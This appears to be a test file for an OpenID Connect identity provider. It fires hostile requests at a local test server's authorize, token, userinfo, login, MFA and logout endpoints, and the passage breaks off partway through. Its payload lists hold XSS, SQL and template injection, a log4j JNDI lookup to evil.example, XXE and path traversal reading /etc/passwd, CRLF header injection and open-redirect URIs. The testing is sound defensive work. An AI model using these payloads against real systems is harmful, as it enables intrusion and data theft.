import assert from 'node:assert/strict';
import net from 'node:net';
import { test } from 'node:test';
import * as oidc from 'openid-client';
import { formField, UserAgent } from './helpers/browser.ts';
import { authorize, CALLBACK, exchange, PASSWORD, startLatchkey } from './helpers/latchkey.ts';
import { beginFlow, enrolTotp, pageOf, submitPassword } from './helpers/mfa.ts';
import { openLoginPage } from './helpers/security.ts';

/**
 * Hundreds of hostile or malformed requests against every endpoint. Whatever comes in, the
 * server answers with a 4xx (or a redirect to a registered URI), never a 5xx, a stack trace, an
 * unescaped payload in HTML, a redirect to an unregistered origin, or an injected header.
 */

const POST_LOGOUT = 'http://127.0.0.1:8765/logged-out';
const EVIL = 'https://evil.example';

const XSS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</title><script>alert(document.cookie)</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '"autofocus onfocus="alert(1)',
];
const INJECTION = [
  "' OR '1'='1",
  "'; drop table accounts; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style injection payload, on purpose
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '{"$ne":null}',
  '<%= process.exit() %>',
  '{{constructor.constructor("return process")()}}',
  '%00',
  '\u0000',
  'a\u0000b',
];
const UNICODE = [
  '\u202egnp.exe',
  'ｅｘａｍｐｌｅ',
  '\u0130stanbul',
  '😀'.repeat(50),
  'A\u0301\u0301\u0301',
  '\uFEFF\u200B\u200D',
  '\uFFFF',
  '𝕏'.repeat(20),
];
const CRLF = [
  'a\r\nX-Injected: 1',
  'a\r\nSet-Cookie: injected=1',
  '%0d%0aX-Injected:%201',
  'a\nLocation: https://evil.example',
];
const HOSTILE = [...XSS, ...INJECTION, ...UNICODE, ...CRLF, 'x'.repeat(5000), ''];

/** Raw payloads that must never appear unescaped in an HTML body. */
const MUST_BE_ESCAPED = XSS;

interface Outcome {
  status: number;
  headers: Headers;
  body: string;
  location: URL | undefined;
}

test('hostile battery: hundreds of malformed requests, no 5xx, no leak, healthy afterwards', async (t) => {
  // The per-address limit on sign-in attempts (second-factor codes count too) raised: every hostile
  // code below is an attempt, and the normal sign-in at the end must still go through.
  const idp = await startLatchkey(t, { SIGNUP_ENABLED: 'true', RATE_LIMIT_LOGIN_PER_MINUTE: '1000' });
  const issuer = new URL(idp.issuer);
  const user = await idp.users.create();
  const xssUser = await idp.users.create({ name: XSS[1] });
  // Allowed to leave PKCE out, so that the PKCE downgrade below can be tried against it.
  const client = await idp.clients.create({
    grantTypes: ['authorization_code', 'refresh_token', 'client_credentials'],
    postLogoutRedirectUris: [POST_LOGOUT],
    requirePkce: false,
  });
  const publicClient = await idp.clients.create({ type: 'public' });
  const xssClient = await idp.clients.create({ name: XSS[0]!, postLogoutRedirectUris: [POST_LOGOUT] });
  const rp = await idp.rp(client);
  const basic = `Basic ${Buffer.from(`${encodeURIComponent(client.clientId)}:${encodeURIComponent(client.clientSecret!)}`).toString('base64')}`;

  let sent = 0;
  const problems: string[] = [];
  const statuses = new Map<number, number>();

  /** Checks every response the same way; the caller adds checks of its own. */
  function inspect(name: string, status: number, headers: Headers, body: string): URL | undefined {
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
    if (status >= 500) problems.push(`${name}: status ${status}`);
    if (/\n\s+at .+:\d+:\d+\)?/.test(body) || body.includes('node_modules') || body.includes('/work/'))
      problems.push(`${name}: stack trace or path in body`);
    if (headers.has('x-injected')) problems.push(`${name}: injected header`);
    if (headers.getSetCookie().some((cookie) => cookie.startsWith('injected')))
      problems.push(`${name}: injected cookie`);
    if ((headers.get('content-type') ?? '').includes('html')) {
      for (const payload of MUST_BE_ESCAPED)
        if (body.includes(payload)) problems.push(`${name}: unescaped ${JSON.stringify(payload)} in HTML`);
      if (/href="javascript:/i.test(body)) problems.push(`${name}: javascript: link`);
    }
    const raw = headers.get('location');
    if (!raw) return undefined;
    let location: URL;
    try {
      location = new URL(raw, issuer);
    } catch {
      problems.push(`${name}: unparseable Location ${raw}`);
      return undefined;
    }
    const target = `${location.origin}${location.pathname}`;
    if (location.origin !== issuer.origin && target !== CALLBACK && target !== POST_LOGOUT) {
      problems.push(`${name}: redirect to unregistered ${location.href.slice(0, 200)}`);
    }
    return location;
  }

  async function send(
    name: string,
    url: string | URL,
    init: RequestInit & { agent?: UserAgent } = {},
  ): Promise<Outcome> {
    sent += 1;
    const { agent, ...rest } = init;
    const target = new URL(url, issuer);
    let response: Response;
    try {
      response = agent
        ? await agent.request(target, { ...rest, signal: AbortSignal.timeout(20_000) })
        : await fetch(target, { redirect: 'manual', ...rest, signal: AbortSignal.timeout(20_000) });
    } catch (err) {
      problems.push(`${name}: request failed (${(err as Error).message})`);
      return { status: 0, headers: new Headers(), body: '', location: undefined };
    }
    const body = await response.text();
    const location = inspect(name, response.status, response.headers, body);
    return { status: response.status, headers: response.headers, body, location };
  }

  /** A request written byte for byte on a socket (for what fetch refuses to send). */
  async function raw(name: string, request: string, halfClose = false): Promise<number> {
    sent += 1;
    const text = await new Promise<string>((resolve) => {
      const socket = net.connect(Number(issuer.port), '127.0.0.1');
      let data = '';
      socket.setTimeout(10_000, () => socket.destroy());
      socket.on('data', (chunk) => {
        data += chunk.toString('latin1');
      });
      socket.on('close', () => resolve(data));
      socket.on('error', () => resolve(data));
      // Complete requests carry Connection: close; an incomplete one is cut short by a half-close.
      socket.write(request, 'latin1');
      if (halfClose) socket.end();
    });
    const [head = '', ...bodyParts] = text.split('\r\n\r\n');
    const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 0);
    const headers = new Headers();
    for (const line of head.split('\r\n').slice(1)) {
      const colon = line.indexOf(':');
      if (colon > 0) headers.append(line.slice(0, colon).trim(), line.slice(colon + 1).trim());
    }
    if (status === 0) problems.push(`${name}: no HTTP response`);
    inspect(name, status, headers, bodyParts.join('\r\n\r\n'));
    return status;
  }

  const form = (fields: Record<string, string> | Array<[string, string]>) => new URLSearchParams(fields).toString();
  const tokenPost = (name: string, body: string, headers: Record<string, string> = {}) =>
    send(name, '/token', {
      method: 'POST',
      headers: { authorization: basic, 'content-type': 'application/x-www-form-urlencoded', ...headers },
      body,
    });
  const validAuthorize = {
    client_id: client.clientId,
    response_type: 'code',
    scope: 'openid',
    redirect_uri: CALLBACK,
    state: 'st',
    nonce: 'nc',
  };
  const authorizeUrl = (params: Record<string, string> | Array<[string, string]>) => `/authorize?${form(params)}`;

  // --- /authorize: every parameter gets every hostile value ------------------------------------
  for (const param of [
    'client_id',
    'redirect_uri',
    'state',
    'nonce',
    'scope',
    'response_type',
    'prompt',
    'login_hint',
    'code_challenge',
    'max_age',
    'claims',
    'resource',
    'ui_locales',
    'response_mode',
  ]) {
    for (const value of HOSTILE) {
      const result = await send(
        `authorize ${param}=${JSON.stringify(value).slice(0, 40)}`,
        authorizeUrl({ ...validAuthorize, [param]: value }),
        { headers: { accept: 'text/html' } },
      );
      if (value.length > 4096) assert.equal(result.status, 400, `oversized ${param} is refused`);
    }
  }

  // --- /authorize: open redirects -----------------------------------------------------------------
  const redirectAttempts = [
    `${EVIL}/callback`,
    `${CALLBACK}/../../evil`,
    `${CALLBACK}.evil.example`,
    'http://127.0.0.1:8765@evil.example/callback',
    '//evil.example/callback',
    'http://127.0.0.1:8766/callback',
    `${CALLBACK}?next=${EVIL}`,
    `${CALLBACK}#${EVIL}`,
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'HTTP://127.0.0.1:8765/CALLBACK',
    `${CALLBACK}/`,
    `${CALLBACK}%2F..%2Fevil`,
    `${CALLBACK}%00.evil.example`,
    'http://localhost:8765/callback',
    'http://[::1]:8765/callback',
    `http://127.0.0.1:8765\\@evil.example/callback`,
    `${EVIL}`,
  ];
  for (const redirectUri of redirectAttempts) {
    for (const clientId of [client.clientId, publicClient.clientId]) {
      const result = await send(
        `authorize redirect_uri=${redirectUri}`,
        authorizeUrl({ ...validAuthorize, client_id: clientId, redirect_uri: redirectUri }),
      );
      assert.ok(
        !result.location || result.location.origin === issuer.origin,
        `no redirect for unregistered ${redirectUri} (got ${result.location})`,
      );
    }
  }
  // state, error and iss in a redirect to the registered URI are encoded, never split into headers.
  for (const state of [...CRLF, ...XSS, `${EVIL}`]) {
    const result = await send(
      'authorize error redirect with hostile state',
      authorizeUrl({ ...validAuthorize, response_type: 'token', state }),
    );
    if (result.location && result.location.origin !== issuer.origin) {
      // The error goes back in the query or, for response types that would use it, the fragment.
      const params = result.location.searchParams.has('error')
        ? result.location.searchParams
        : new URLSearchParams(result.location.hash.slice(1));
      assert.equal(params.get('state'), state, 'state is returned verbatim, encoded');
    }
  }

  // --- /authorize: duplicates, too many parameters, bodies ---------------------------------------
  for (const dupe of ['client_id', 'redirect_uri', 'state', 'scope', 'response_type', 'code_challenge', 'nonce']) {
    const params = Object.entries(validAuthorize);
    params.push([
      dupe,
      dupe === 'client_id' ? publicClient.clientId : dupe === 'redirect_uri' ? `${EVIL}/cb` : 'other',
    ]);
    const result = await send(`authorize duplicate ${dupe}`, authorizeUrl(params));
    assert.ok(
      result.status === 400 || result.location?.searchParams.get('error') === 'invalid_request',
      `duplicate ${dupe} is refused`,
    );
  }
  await send(
    'authorize 100 parameters',
    authorizeUrl([
      ...Object.entries(validAuthorize),
      ...Array.from({ length: 100 }, (_, i): [string, string] => [`p${i}`, 'v']),
    ]),
  );
  await send('authorize no parameters', '/authorize');
  await send('authorize 12 KiB query', `/authorize?junk=${'a'.repeat(12_000)}`);
  for (const [type, body] of [
    ['application/x-www-form-urlencoded', form(validAuthorize)],
    ['application/x-www-form-urlencoded', 'a=%%%&&&==='],
    ['application/json', JSON.stringify(validAuthorize)],
    ['text/plain', 'hello'],
    ['multipart/form-data; boundary=x', '--x\r\n\r\n--x--'],
    ['application/x-www-form-urlencoded', 'x'.repeat(70_000)],
    ['application/xml', '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'],
  ] as const) {
    await send(`authorize POST ${type} ${body.length}`, '/authorize', {
      method: 'POST',
      headers: { 'content-type': type },
      body,
    });
  }
  await send('authorize PUT', '/authorize', { method: 'PUT', body: 'x' });
  await send('authorize DELETE', '/authorize', { method: 'DELETE' });

  // --- /token -------------------------------------------------------------------------------------
  for (const [type, body] of [
    ['application/json', JSON.stringify({ grant_type: 'client_credentials' })],
    ['text/plain', 'grant_type=client_credentials'],
    [
      'multipart/form-data; boundary=x',
      '--x\r\nContent-Disposition: form-data; name="grant_type"\r\n\r\nclient_credentials\r\n--x--',
    ],
    ['application/xml', '<grant_type>client_credentials</grant_type>'],
    ['', 'grant_type=client_credentials'],
    ['application/x-www-form-urlencoded; charset=utf-7', 'grant_type=client_credentials'],
    ['application/x-www-form-urlencoded', '%%%%'],
    ['application/x-www-form-urlencoded', '&&&==&='],
    ['application/x-www-form-urlencoded', 'x'.repeat(70_000)],
    ['application/x-www-form-urlencoded', `grant_type=client_credentials&pad=${'y'.repeat(1_000_000)}`],
    ['application/x-www-form-urlencoded', Buffer.from([0xff, 0xfe, 0x00, 0x80, 0xc3, 0x28]).toString('latin1')],
  ] as const) {
    const result = await send(`token ${type || 'no content-type'} ${body.length}`, '/token', {
      method: 'POST',
      headers: { authorization: basic, ...(type ? { 'content-type': type } : {}) },
      body,
    });
    if (type && !type.startsWith('application/x-www-form-urlencoded'))
      assert.equal(result.status, 400, `token refuses ${type}`);
  }
  for (const grant of [
    'authorization_code',
    'refresh_token',
    'client_credentials',
    'password',
    'implicit',
    'urn:ietf:params:oauth:grant-type:jwt-bearer',
    ...HOSTILE.slice(0, 12),
  ]) {
    for (const field of ['code', 'refresh_token', 'redirect_uri', 'code_verifier', 'scope', 'resource']) {
      await tokenPost(
        `token ${grant.slice(0, 30)} ${field}`,
        form({ grant_type: grant, [field]: HOSTILE[(sent * 7) % HOSTILE.length]! }),
      );
    }
  }
  for (const value of HOSTILE)
    await tokenPost(
      `token code=${JSON.stringify(value).slice(0, 30)}`,
      form({ grant_type: 'authorization_code', code: value, redirect_uri: CALLBACK }),
    );
  await tokenPost('token duplicate grant_type', 'grant_type=client_credentials&grant_type=authorization_code');
  await tokenPost('token duplicate code', 'grant_type=authorization_code&code=a&code=b&redirect_uri=x');
  for (const authorization of [
    'Basic',
    'Basic !!!',
    `Basic ${Buffer.from('no-colon').toString('base64')}`,
    `Basic ${Buffer.from(`${client.clientId}:wrong`).toString('base64')}`,
    `Basic ${Buffer.from(`${XSS[0]}:${XSS[1]}`).toString('base64')}`,
    `Basic ${'A'.repeat(6000)}`,
    'Bearer abc',
    'Digest username="x"',
    `Basic ${Buffer.from(':').toString('base64')}`,
    `Basic ${Buffer.from(`%ZZ:%ZZ`).toString('base64')}`,
  ]) {
    const result = await tokenPost(
      `token authorization ${authorization.slice(0, 30)}`,
      'grant_type=client_credentials',
      { authorization },
    );
    assert.ok(result.status === 400 || result.status === 401, `bad client auth is 400/401 (${result.status})`);
  }
  const nulClient = await send('token client_id with NUL', '/token', {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: form({ grant_type: 'client_credentials', client_id: 'a\u0000b', client_secret: 'x' }),
  });
  assert.ok(nulClient.status === 400 || nulClient.status === 401, `NUL in client_id: ${nulClient.status}`);
  await tokenPost(
    'token two client auth methods',
    form({ grant_type: 'client_credentials', client_id: client.clientId, client_secret: client.clientSecret! }),
  );
  await send('token GET', '/token');
  await send('token PUT', '/token', { method: 'PUT', body: 'x' });

  // Replays: a code works once, and its replay revokes what the first use issued (RFC 9700 §4.2.4? no: RFC 6749 §4.1.2).
  const flow = await authorize(idp, rp, { email: user.email, scope: 'openid offline_access', prompt: 'consent' });
  const code = flow.callback.searchParams.get('code')!;
  const codeBody = form({
    grant_type: 'authorization_code',
    code,
    redirect_uri: CALLBACK,
    code_verifier: flow.codeVerifier,
  });
  const first = await tokenPost('token code first use', codeBody);
  assert.equal(first.status, 200, 'the code works once');
  const firstTokens = JSON.parse(first.body) as { access_token: string; refresh_token: string };
  const replayed = await tokenPost('token code replay', codeBody);
  assert.equal(replayed.status, 400);
  assert.equal((JSON.parse(replayed.body) as { error: string }).error, 'invalid_grant');
  const afterReplay = await send('userinfo after code replay', '/userinfo', {
    headers: { authorization: `Bearer ${firstTokens.access_token}` },
  });
  assert.equal(afterReplay.status, 401, 'the replay revoked the tokens of the first use');

  const flow2 = await authorize(idp, rp, { email: user.email, scope: 'openid offline_access', prompt: 'consent' });
  const tokens2 = await exchange(rp, flow2);
  const rotated = await tokenPost(
    'token refresh',
    form({ grant_type: 'refresh_token', refresh_token: tokens2.refresh_token! }),
  );
  assert.equal(rotated.status, 200, rotated.body);
  const rotatedTokens = JSON.parse(rotated.body) as { refresh_token: string };
  const refreshReplay = await tokenPost(
    'token refresh replay',
    form({ grant_type: 'refresh_token', refresh_token: tokens2.refresh_token! }),
  );
  assert.equal(refreshReplay.status, 400, 'a rotated refresh token is refused');
  const successor = await tokenPost(
    'token refresh successor after replay',
    form({ grant_type: 'refresh_token', refresh_token: rotatedTokens.refresh_token }),
  );
  assert.equal(successor.status, 400, 'the replay revoked the grant: its successor is dead too');
  const otherClientBasic = `Basic ${Buffer.from(`${encodeURIComponent(xssClient.clientId)}:${encodeURIComponent(xssClient.clientSecret!)}`).toString('base64')}`;
  const flow3 = await authorize(idp, rp, { email: user.email, scope: 'openid offline_access', prompt: 'consent' });
  const tokens3 = await exchange(rp, flow3);
  const stolen = await tokenPost(
    'token refresh by another client',
    form({ grant_type: 'refresh_token', refresh_token: tokens3.refresh_token! }),
    { authorization: otherClientBasic },
  );
  assert.equal(stolen.status, 400, 'a refresh token is bound to its client');

  // PKCE downgrade (RFC 9700 §4.8): a code issued without a challenge does not take a verifier.
  const noPkce = await authorize(idp, rp, { email: user.email, pkce: false });
  const downgrade = await tokenPost(
    'token PKCE downgrade',
    form({
      grant_type: 'authorization_code',
      code: noPkce.callback.searchParams.get('code')!,
      redirect_uri: CALLBACK,
      code_verifier: 'a'.repeat(43),
    }),
  );
  assert.equal(downgrade.status, 400, 'a code_verifier for a code without code_challenge is refused');
  assert.equal((JSON.parse(downgrade.body) as { error: string }).error, 'invalid_grant');

  // --- /userinfo, /introspect, /revoke ---------------------------------------------------------
  for (const value of [
    ...HOSTILE.slice(0, 20),
    'x'.repeat(8000),
    `${tokens3.access_token}x`,
    tokens3.access_token.toUpperCase(),
  ]) {
    let header = `Bearer ${value}`;
    if (/[^\t\x20-\x7e\x80-\xff]/.test(header)) header = `Bearer ${encodeURIComponent(value)}`;
    const result = await send(`userinfo bearer ${JSON.stringify(value).slice(0, 30)}`, '/userinfo', {
      headers: { authorization: header },
    });
    assert.ok(result.status === 400 || result.status === 401, `userinfo refuses a bad token (${result.status})`);
  }
  await send('userinfo no token', '/userinfo');
  await send('userinfo token in query', `/userinfo?access_token=${tokens3.access_token}`);
  await send('userinfo POST garbage', '/userinfo', {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: '%%%=&&',
  });
  await send('userinfo POST json', '/userinfo', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{"access_token":',
  });
  await send('userinfo two tokens', `/userinfo?access_token=a`, {
    headers: { authorization: `Bearer ${tokens3.access_token}` },
  });
  await send('userinfo DELETE', '/userinfo', { method: 'DELETE' });
  const crossOrigin = await send('userinfo from an unregistered origin', '/userinfo', {
    headers: { authorization: `Bearer ${tokens3.access_token}`, origin: EVIL },
  });
  assert.equal(
    crossOrigin.headers.get('access-control-allow-origin'),
    null,
    'no CORS for an origin the client did not register',
  );
  for (const endpoint of ['/introspect', '/revoke']) {
    for (const value of [...HOSTILE.slice(0, 16), tokens3.refresh_token!]) {
      await send(`${endpoint} token ${JSON.stringify(value).slice(0, 30)}`, endpoint, {
        method: 'POST',
        headers: { authorization: basic, 'content-type': 'application/x-www-form-urlencoded' },
        body: form({ token: value, token_type_hint: value.slice(0, 50) }),
      });
    }
    await send(`${endpoint} no client auth`, endpoint, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form({ token: tokens3.access_token }),
    });
    await send(`${endpoint} json`, endpoint, {
      method: 'POST',
      headers: { authorization: basic, 'content-type': 'application/json' },
      body: '{"token":"x"}',
    });
    await send(`${endpoint} oversized`, endpoint, {
      method: 'POST',
      headers: { authorization: basic, 'content-type': 'application/x-www-form-urlencoded' },
      body: `token=${'t'.repeat(100_000)}`,
    });
    await send(`${endpoint} duplicate token`, endpoint, {
      method: 'POST',
      headers: { authorization: basic, 'content-type': 'application/x-www-form-urlencoded' },
      body: 'token=a&token=b',
    });
    await send(`${endpoint} GET`, endpoint);
  }

  // --- interaction routes: CSRF, garbage, XSS in echoed fields ----------------------------------
  const page = await openLoginPage(idp, rp);
  const otherPage = await openLoginPage(idp, rp);
  const loginPost = (
    name: string,
    body: string,
    type = 'application/x-www-form-urlencoded',
    agent = page.agent,
    path = page.loginUrl.pathname,
  ) => send(name, path, { method: 'POST', headers: { 'content-type': type }, body, agent });
  for (const csrf of ['', 'x', otherPage.csrf, `${page.csrf}x`, 'A'.repeat(5000), ...XSS]) {
    const result = await loginPost(
      `login csrf ${csrf.slice(0, 20)}`,
      form({ csrf, email: user.email, password: PASSWORD }),
    );
    assert.equal(result.status, 403, 'a login without its own CSRF token is refused');
  }
  const noCookies = await send('login without the interaction cookie (cross-site)', page.loginUrl, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', origin: EVIL },
    body: form({ csrf: page.csrf, email: user.email, password: PASSWORD }),
  });
  assert.ok(
    noCookies.status === 400 || noCookies.status === 403,
    `a cross-site POST without the cookie is refused (${noCookies.status})`,
  );
  for (const email of [...XSS, ...INJECTION.slice(0, 6), ...UNICODE.slice(0, 4), 'x'.repeat(300)]) {
    const result = await loginPost(
      `login email ${JSON.stringify(email).slice(0, 30)}`,
      form({ csrf: page.csrf, email, password: 'wrong password!!' }),
    );
    assert.ok(
      result.status === 401 || result.status === 400,
      `login with a hostile email is refused (${result.status})`,
    );
  }
  const nulEmail = await loginPost(
    'login email with NUL',
    form({ csrf: page.csrf, email: 'a\u0000b@example.com', password: 'wrong password!!' }),
  );
  assert.ok(nulEmail.status === 400 || nulEmail.status === 401, `NUL in the email: ${nulEmail.status}`);
  for (const [type, body] of [
    ['application/json', JSON.stringify({ csrf: page.csrf, email: user.email, password: PASSWORD })],
    ['text/plain', 'x'],
    ['multipart/form-data; boundary=x', '--x--'],
    ['application/x-www-form-urlencoded', 'x'.repeat(20_000)],
    ['application/x-www-form-urlencoded', `csrf=${page.csrf}&email=a&email=b&password=c`],
    ['application/x-www-form-urlencoded', '%%%&&=='],
    ['application/x-www-form-urlencoded', `csrf=${page.csrf}&email[]=a&password[$ne]=1`],
    ['application/x-www-form-urlencoded', ''],
  ] as const) {
    await loginPost(`login body ${type} ${body.length}`, body, type);
  }
  for (const uid of [
    'x',
    XSS[0]!,
    '..%2F..%2Fetc%2Fpasswd',
    '%E0%A4%A',
    '%',
    'a'.repeat(5000),
    '%00',
    encodeURIComponent(XSS[1]!),
    '😀',
  ]) {
    await send(`interaction GET ${uid.slice(0, 20)}`, `/interaction/${uid}`, { headers: { accept: 'text/html' } });
    await send(`interaction login POST ${uid.slice(0, 20)}`, `/interaction/${uid}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form({ csrf: 'x', email: 'a', password: 'b' }),
    });
    await send(`interaction consent POST ${uid.slice(0, 20)}`, `/interaction/${uid}/consent`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form({ csrf: 'x', decision: 'allow' }),
    });
    await send(`interaction abort POST ${uid.slice(0, 20)}`, `/interaction/${uid}/abort`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'csrf=x',
    });
  }
  const consentPath = page.loginUrl.pathname.replace(/\/login$/, '/consent');
  for (const csrf of ['', 'nope', otherPage.csrf]) {
    const result = await send(`consent without CSRF ${csrf}`, consentPath, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form({ csrf, decision: 'allow' }),
      agent: page.agent,
    });
    assert.equal(result.status, 403, 'consent without its CSRF token is refused');
  }
  const abortPath = page.loginUrl.pathname.replace(/\/login$/, '/abort');
  assert.equal(
    (
      await send('abort without CSRF', abortPath, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: 'csrf=',
        agent: page.agent,
      })
    ).status,
    403,
  );

  // Echoed fields: login_hint on the login page, the client's name, the account's name on consent.
  for (const hint of XSS) {
    const hinted = await openLoginPage(idp, rp, { login_hint: hint });
    sent += 2;
    inspect('login page with hostile login_hint', 200, new Headers({ 'content-type': 'text/html' }), hinted.body);
    assert.ok(
      hinted.body.includes('&lt;') ||
        hinted.body.includes('&#34;') ||
        hinted.body.includes('&#39;') ||
        hinted.body.includes('&quot;'),
      'the hint is shown, escaped',
    );
  }
  const xssRp = await idp.rp(xssClient);
  const xssLogin = await openLoginPage(idp, xssRp);
  sent += 2;
  inspect(
    'login page of a client with a hostile name',
    200,
    new Headers({ 'content-type': 'text/html' }),
    xssLogin.body,
  );
  assert.ok(xssLogin.body.includes('&lt;script&gt;'), 'the client name is escaped');
  const consentStep = await xssLogin.agent.submitForm(xssLogin.loginUrl, {
    csrf: xssLogin.csrf,
    email: xssUser.email,
    password: PASSWORD,
  });
  sent += 3;
  inspect(
    'consent page with hostile client and account names',
    consentStep.response.status,
    consentStep.response.headers,
    consentStep.body,
  );
  assert.ok(formField(consentStep.body, 'csrf'), 'consent page reached');

  // --- the person's own forms: forgot password, sign-up, mailed links ----------------------------
  // Each field of each form gets hostile values with a valid CSRF token: a 4xx or the form's
  // answer, never a 5xx, and no value comes back unescaped (inspect checks every page).
  const flowAgent = new UserAgent(idp.issuer);
  const flowCsrf = formField((await flowAgent.navigate('/sign-up')).body, 'csrf')!;
  const flowPost = (name: string, path: string, fields: Record<string, string>) =>
    send(name, path, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form({ csrf: flowCsrf, ...fields }),
      agent: flowAgent,
    });
  const flowForms: Array<[path: string, fields: Record<string, string>]> = [
    ['/forgot-password', { email: user.email }],
    ['/sign-up', { name: 'Pat', email: 'pat@example.com', password: PASSWORD }],
    ['/reset-password', { token: 'A'.repeat(43), password: PASSWORD }],
    ['/accept-invitation', { token: 'A'.repeat(43), password: PASSWORD }],
    ['/verify-email', { token: 'A'.repeat(43) }],
  ];
  for (const [path, fields] of flowForms) {
    for (const field of [...Object.keys(fields), 'interaction']) {
      for (const value of [...XSS, ...INJECTION.slice(0, 7), ...UNICODE.slice(0, 3), ...CRLF, 'x'.repeat(3000)]) {
        const result = await flowPost(`${path} ${field}=${JSON.stringify(value).slice(0, 24)}`, path, {
          ...fields,
          [field]: value,
        });
        assert.ok(result.status < 500, `${path} ${field}: ${result.status}`);
      }
    }
    for (const value of ['', 'x', `${flowCsrf}x`, ...XSS.slice(0, 2)]) {
      const result = await send(`${path} csrf ${value.slice(0, 20)}`, path, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: form({ ...fields, csrf: value }),
        agent: flowAgent,
      });
      assert.equal(result.status, 403, `${path}: a wrong CSRF token is refused`);
    }
  }
  for (const path of ['/reset-password', '/accept-invitation', '/verify-email', '/sign-up', '/forgot-password']) {
    for (const value of [...XSS, ...CRLF, '%00', 'x'.repeat(5000)]) {
      await send(
        `GET ${path} with hostile query`,
        `${path}?token=${encodeURIComponent(value)}&interaction=${encodeURIComponent(value)}`,
      );
    }
  }

  // --- the second step of a sign-in: the code form, the recovery code form, the setup form --------
  // Each field gets hostile values with the interaction's CSRF token: 4xx or the page again, never
  // a 5xx, nothing unescaped; a wrong CSRF token is refused.
  const mfaUser = await idp.users.create();
  await enrolTotp(idp, mfaUser);
  const mfaClient = await idp.clients.create({ requireMfa: true });
  const mfaRp = await idp.rp(mfaClient);
  const mfaValues = [...XSS, ...INJECTION.slice(0, 4), ...UNICODE.slice(0, 2), ...CRLF, 'x'.repeat(3000), ''];
  const codeStep = await beginFlow(idp, rp);
  const codePage = await submitPassword(idp, codeStep.flow.agent, codeStep.step, mfaUser.email);
  assert.equal(pageOf(codePage), 'second-factor');
  const enrolUser = await idp.users.create();
  const enrolStep = await beginFlow(idp, mfaRp);
  const enrolPage = await submitPassword(idp, enrolStep.flow.agent, enrolStep.step, enrolUser.email);
  assert.equal(pageOf(enrolPage), 'enrol');
  const secondStepForms: Array<
    [page: typeof codePage, agent: UserAgent, action: string, fields: Record<string, string>]
  > = [
    [codePage, codeStep.flow.agent, 'second-factor', { method: 'totp', code: '123456' }],
    [codePage, codeStep.flow.agent, 'second-factor', { method: 'recovery', code: 'abcde-fghjk' }],
    [enrolPage, enrolStep.flow.agent, 'enrol', { code: '123456' }],
    [enrolPage, enrolStep.flow.agent, 'enrol', { action: 'continue' }],
  ];
  for (const [stepPage, agent, action, fields] of secondStepForms) {
    const path = `${stepPage.url.pathname}/${action}`;
    const csrf = formField(stepPage.body, 'csrf')!;
    for (const field of Object.keys(fields)) {
      for (const value of mfaValues) {
        const result = await send(`${action} ${field}=${JSON.stringify(value).slice(0, 24)}`, path, {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: form({ csrf, ...fields, [field]: value }),
          agent,
        });
        assert.ok(result.status < 500, `${action} ${field}: ${result.status}`);
        assert.ok(!result.location || result.location.origin === issuer.origin, `${action}: no code for the app`);
      }
    }
    for (const value of ['', 'x', `${csrf}x`, ...XSS.slice(0, 2)]) {
      const result = await send(`${action} csrf ${value.slice(0, 20)}`, path, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: form({ ...fields, csrf: value }),
        agent,
      });
      assert.equal(result.status, 403, `${action}: a wrong CSRF token is refused`);
    }
  }
  // The second step's forms from a browser without that sign-in (no interaction cookie): refused.
  const stranger = await send('second-factor without the interaction', `${codePage.url.pathname}/second-factor`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: form({ csrf: formField(codePage.body, 'csrf')!, method: 'totp', code: '123456' }),
  });
  assert.ok(stranger.status >= 400 && stranger.status < 500, `no interaction cookie: ${stranger.status}`);

  // --- /logout ------------------------------------------------------------------------------------
  for (const uri of [...redirectAttempts.slice(0, 10), POST_LOGOUT]) {
    for (const clientId of [client.clientId, xssClient.clientId, 'nope']) {
      const result = await send(
        `logout post_logout_redirect_uri=${uri}`,
        `/logout?${form({ client_id: clientId, post_logout_redirect_uri: uri, state: XSS[0]! })}`,
        { headers: { accept: 'text/html' } },
      );
      if (uri !== POST_LOGOUT)
        assert.ok(!result.location || result.location.origin === issuer.origin, `logout never redirects to ${uri}`);
    }
  }
  for (const value of HOSTILE) {
    await send(
      `logout id_token_hint ${JSON.stringify(value).slice(0, 30)}`,
      `/logout?${form({ id_token_hint: value, state: value.slice(0, 100) })}`,
    );
  }
  await send(
    'logout id_token_hint of another client',
    `/logout?${form({ id_token_hint: tokens3.id_token!, client_id: xssClient.clientId, post_logout_redirect_uri: POST_LOGOUT })}`,
  );
  for (const body of ['xsrf=nope&logout=yes', '%%%', 'x'.repeat(70_000), '']) {
    await send(`logout confirm ${body.slice(0, 20)}`, '/logout/confirm', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body,
    });
  }
  await send('logout confirm json', '/logout/confirm', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{}',
  });

  // --- anything else ------------------------------------------------------------------------------
  for (const path of [
